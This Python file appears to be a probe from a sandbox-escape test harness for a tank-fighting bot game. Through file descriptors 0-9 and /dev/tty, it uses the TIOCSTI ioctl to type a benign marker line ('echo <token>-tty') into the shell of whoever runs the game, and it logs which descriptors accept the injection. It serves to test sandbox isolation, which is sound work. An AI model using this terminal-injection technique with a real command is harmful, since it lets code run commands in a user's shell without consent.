"""Hostile Tanks bot: terminal injection (TIOCSTI).

If a bot shares the terminal of whoever runs cf-fight, TIOCSTI pushes
characters into that terminal's input: a command typed into the user's
shell. The escape driver runs cf-fight with a pseudo-terminal as its
controlling terminal and standard input and reads it after the fight; the
bot injects a line carrying the run's token through descriptors 0..9 and
/dev/tty.
"""
# @ESCAPE_PRELUDE@


import fcntl
import termios


def attack():
    line = ('echo %s-tty\n' % CFG.get('token', 'cfesc')).encode()
    fds = list(range(0, 10))
    try:
        fds.append(os.open('/dev/tty', os.O_RDWR))
    except OSError as e:
        note('/dev/tty: %s' % e)
    for fd in fds:
        try:
            for ch in line:
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
            evidence('TIOCSTI accepted on fd %d' % fd)
        except OSError:
            pass


# @ESCAPE_ATTACK_MAIN@
